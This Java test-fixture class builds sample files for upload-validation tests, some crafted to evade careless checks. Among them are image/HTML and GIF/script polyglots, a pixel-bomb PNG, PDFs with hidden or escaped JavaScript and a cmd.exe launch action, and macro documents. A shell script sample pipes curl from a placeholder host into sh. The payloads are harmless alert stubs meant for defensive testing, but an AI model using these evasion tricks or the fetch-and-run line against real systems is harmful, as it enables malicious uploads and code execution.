package id.serambi.core.media;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

/** Crafted files for the media tests: real images, documents, and files built to get past a careless check. */
public final class SampleFiles {
    /** A 1×1 lossless WebP (the one browsers' feature tests use). */
    public static final byte[] WEBP = Base64.getDecoder().decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==");

    private SampleFiles() {
    }

    /** A JPEG of the size, with some drawing (and noise when {@code noisy}, which makes it large). */
    public static byte[] jpeg(int width, int height, boolean noisy) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setColor(new Color(30, 110, 60));
        g.fillRect(0, 0, width, height);
        g.setColor(Color.ORANGE);
        g.fillOval(width / 4, height / 4, width / 2, height / 2);
        g.dispose();
        if (noisy) {
            Random random = new Random(7);
            for (int y = 0; y < height; y++) {
                for (int x = 0; x < width; x++) {
                    image.setRGB(x, y, image.getRGB(x, y) ^ (random.nextInt() & 0x1F1F1F));
                }
            }
        }
        return write(image, "jpeg");
    }

    public static byte[] png(int width, int height, boolean transparent) {
        BufferedImage image = new BufferedImage(width, height, transparent ? BufferedImage.TYPE_INT_ARGB : BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setColor(new Color(200, 20, 20, transparent ? 120 : 255));
        g.fillRect(0, 0, width / 2, height);
        g.dispose();
        return write(image, "png");
    }

    public static byte[] gif(int width, int height) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setColor(Color.BLUE);
        g.fillRect(0, 0, width, height);
        g.dispose();
        return write(image, "gif");
    }

    /**
     * A JPEG with an EXIF segment right after SOI that turns the picture (orientation 6: rotate 90° clockwise)
     * and carries a GPS position (latitude "S", 6° 12' 0").
     */
    public static byte[] jpegWithExifGps(int width, int height) {
        ByteBuffer tiff = ByteBuffer.allocate(128); // big-endian "MM"
        tiff.put((byte) 'M').put((byte) 'M').putShort((short) 42).putInt(8);
        tiff.putShort((short) 2); // IFD0: orientation, GPS IFD pointer
        tiff.putShort((short) 0x0112).putShort((short) 3).putInt(1).putShort((short) 6).putShort((short) 0);
        tiff.putShort((short) 0x8825).putShort((short) 4).putInt(1).putInt(38);
        tiff.putInt(0);
        // GPS IFD at 38: latitude ref "S", latitude 6/1 12/1 0/1
        tiff.putShort((short) 2);
        tiff.putShort((short) 1).putShort((short) 2).putInt(2).put((byte) 'S').put((byte) 0).putShort((short) 0);
        tiff.putShort((short) 2).putShort((short) 5).putInt(3).putInt(68);
        tiff.putInt(0);
        tiff.putInt(6).putInt(1).putInt(12).putInt(1).putInt(0).putInt(1); // at 68
        byte[] tiffBytes = new byte[tiff.position()];
        tiff.flip().get(tiffBytes);
        byte[] exifHeader = "Exif\0\0".getBytes(StandardCharsets.ISO_8859_1);
        int length = 2 + exifHeader.length + tiffBytes.length;
        byte[] plain = jpeg(width, height, false);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(plain, 0, 2);
        out.write(0xFF);
        out.write(0xE1);
        out.write(length >> 8);
        out.write(length & 0xFF);
        out.writeBytes(exifHeader);
        out.writeBytes(tiffBytes);
        out.write(plain, 2, plain.length - 2);
        return out.toByteArray();
    }

    /** A valid JPEG whose comment segment carries an HTML page with script (read as HTML by a sniffing browser). */
    public static byte[] jpegWithHtmlComment() {
        byte[] comment = "<html><body><script>alert(document.cookie)</script></body></html>".getBytes(StandardCharsets.US_ASCII);
        byte[] plain = jpeg(64, 64, false);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(plain, 0, 2);
        out.write(0xFF);
        out.write(0xFE);
        out.write((comment.length + 2) >> 8);
        out.write((comment.length + 2) & 0xFF);
        out.writeBytes(comment);
        out.write(plain, 2, plain.length - 2);
        return out.toByteArray();
    }

    /** A GIF that is also a script: the classic GIF/JavaScript polyglot appends markup after the image. */
    public static byte[] gifWithScript() {
        return concat(gif(16, 16), "<script>alert(1)</script>".getBytes(StandardCharsets.US_ASCII));
    }

    /** A JPEG with a zip appended: image viewers show the picture, unzip finds the files. */
    public static byte[] jpegWithZipAppended() {
        return concat(jpeg(64, 64, false), zip("payload.js", "alert(1)"));
    }

    /** A PNG whose header claims 50 000 × 50 000 pixels (2.5 gigapixels) in a file of a few hundred bytes. */
    public static byte[] pngPixelBomb() {
        byte[] png = png(8, 8, false);
        // IHDR data starts at 16 (8 signature + 4 length + 4 type); its CRC covers type and data (17 bytes).
        ByteBuffer.wrap(png, 16, 8).putInt(50_000).putInt(50_000);
        CRC32 crc = new CRC32();
        crc.update(png, 12, 17);
        ByteBuffer.wrap(png, 29, 4).putInt((int) crc.getValue());
        return png;
    }

    public static byte[] pdf(String extraObjects) {
        return pdf(false, extraObjects);
    }

    public static byte[] pdf(boolean openAction, String extraObjects) {
        String body = "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R" + (openAction ? " /OpenAction 4 0 R" : "")
                + " >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
                + "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj\n"
                + extraObjects + "\ntrailer << /Root 1 0 R >>\n%%EOF\n";
        return body.getBytes(StandardCharsets.ISO_8859_1);
    }

    public static byte[] plainPdf() {
        return pdf("");
    }

    public static byte[] pdfWithOpenActionJavaScript() {
        return pdf(true, "4 0 obj << /S /JavaScript /JS (app.alert('x')) >> endobj");
    }

    /** The same action with the name spelled through #xx escapes, which PDF readers decode. */
    public static byte[] pdfWithEscapedJavaScriptName() {
        return pdf("4 0 obj << /S /J#61vaScript /J#53 (app.alert(1)) >> endobj");
    }

    public static byte[] pdfWithLaunchAction() {
        return pdf("4 0 obj << /S /Launch /F (cmd.exe) >> endobj");
    }

    /** The JavaScript action hidden inside a compressed object stream, invisible to a plain text search. */
    public static byte[] pdfWithJavaScriptInCompressedStream() {
        byte[] hidden = "5 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj".getBytes(StandardCharsets.ISO_8859_1);
        Deflater deflater = new Deflater();
        deflater.setInput(hidden);
        deflater.finish();
        byte[] buffer = new byte[1024];
        int n = deflater.deflate(buffer);
        deflater.end();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(("%PDF-1.5\n1 0 obj << /Type /Catalog >> endobj\n4 0 obj << /Type /ObjStm /N 1 /First 0 /Filter /FlateDecode /Length "
                + n + " >>\nstream\n").getBytes(StandardCharsets.ISO_8859_1));
        out.write(buffer, 0, n);
        out.writeBytes("\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n".getBytes(StandardCharsets.ISO_8859_1));
        return out.toByteArray();
    }

    public static byte[] docx() {
        return zip("[Content_Types].xml", "<Types/>", "word/document.xml", "<w:document/>");
    }

    public static byte[] xlsx() {
        return zip("[Content_Types].xml", "<Types/>", "xl/workbook.xml", "<workbook/>");
    }

    public static byte[] docmWithMacro() {
        return zip("[Content_Types].xml", "<Types/>", "word/document.xml", "<w:document/>", "word/vbaProject.bin", "macro");
    }

    public static byte[] odt() {
        return zip("mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<office:document-content/>");
    }

    public static byte[] legacyDoc() {
        byte[] ole = new byte[1536];
        byte[] magic = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        System.arraycopy(magic, 0, ole, 0, magic.length);
        return ole;
    }

    /** A legacy .doc whose compound-file directory names a VBA project (a Word macro document). */
    public static byte[] legacyDocWithMacro() {
        byte[] doc = legacyDoc();
        byte[] name = "_VBA_PROJECT_CUR".getBytes(StandardCharsets.UTF_16LE);
        System.arraycopy(name, 0, doc, 1024, name.length);
        return doc;
    }

    public static byte[] odtWithBasicMacro() {
        return zip("mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<office:document-content/>",
                "Basic/Standard/Module1.xml", "<script:module/>");
    }

    public static byte[] mp4() {
        ByteBuffer mp4 = ByteBuffer.allocate(64);
        mp4.putInt(24).put("ftyp".getBytes(StandardCharsets.US_ASCII)).put("isom".getBytes(StandardCharsets.US_ASCII))
                .putInt(0x200).put("isommp41".getBytes(StandardCharsets.US_ASCII));
        mp4.putInt(40).put("mdat".getBytes(StandardCharsets.US_ASCII));
        return mp4.array();
    }

    public static byte[] quickTimeMov() {
        byte[] mov = mp4();
        System.arraycopy("qt  ".getBytes(StandardCharsets.US_ASCII), 0, mov, 8, 4);
        return mov;
    }

    public static byte[] windowsExe() {
        byte[] exe = new byte[512];
        exe[0] = 'M';
        exe[1] = 'Z';
        System.arraycopy("This program cannot be run in DOS mode".getBytes(StandardCharsets.US_ASCII), 0, exe, 78, 38);
        return exe;
    }

    public static byte[] elf() {
        return concat(new byte[]{0x7F, 'E', 'L', 'F', 2, 1, 1}, new byte[100]);
    }

    public static byte[] shellScript() {
        return "#!/bin/sh\ncurl http://contoh.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII);
    }

    public static byte[] svg() {
        return ("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">"
                + "<script>alert(1)</script><rect width=\"10\" height=\"10\"/></svg>").getBytes(StandardCharsets.UTF_8);
    }

    public static byte[] html() {
        return "\uFEFF  <!DOCTYPE html><html><body onload=\"alert(1)\">Pengumuman</body></html>".getBytes(StandardCharsets.UTF_8);
    }

    public static byte[] plainZip() {
        return zip("laporan.txt", "isi laporan");
    }

    public static byte[] rar() {
        return concat("Rar!\u001A\u0007\u0000".getBytes(StandardCharsets.ISO_8859_1), new byte[64]);
    }

    public static byte[] zip(String... namesAndContents) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (int i = 0; i < namesAndContents.length; i += 2) {
                zip.putNextEntry(new ZipEntry(namesAndContents[i]));
                zip.write(namesAndContents[i + 1].getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    public static byte[] concat(byte[] a, byte[] b) {
        byte[] all = new byte[a.length + b.length];
        System.arraycopy(a, 0, all, 0, a.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        return all;
    }

    private static byte[] write(BufferedImage image, String format) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            if (!ImageIO.write(image, format, out)) {
                throw new IllegalStateException("no writer for " + format);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
